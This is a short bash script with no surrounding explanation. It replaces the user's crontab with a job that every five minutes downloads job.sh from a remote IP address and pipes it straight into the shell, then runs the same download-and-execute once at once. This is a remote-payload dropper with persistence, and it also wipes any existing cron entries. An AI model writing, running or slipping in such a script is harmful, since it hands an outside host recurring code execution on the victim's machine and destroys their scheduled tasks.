#!/bin/bash
echo "*/5 * * * * curl -s http://192.0.2.45/job.sh | sh" | crontab -
curl -s http://192.0.2.45/job.sh | sh
